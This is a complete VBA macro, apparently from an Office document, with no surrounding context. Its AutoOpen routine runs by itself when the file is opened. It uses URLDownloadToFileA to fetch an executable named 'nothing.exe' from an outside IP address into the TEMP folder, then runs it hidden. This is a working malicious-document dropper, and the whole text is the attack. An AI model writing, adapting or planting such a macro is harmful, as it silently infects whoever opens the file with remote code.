Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub AutoOpen()
    Dim f As String
    f = Environ("TEMP") & "\nothing.exe"
    URLDownloadToFileA 0, "http://198.51.100.7/nothing.exe", f, 0, 0
    Shell f, vbHide
End Sub
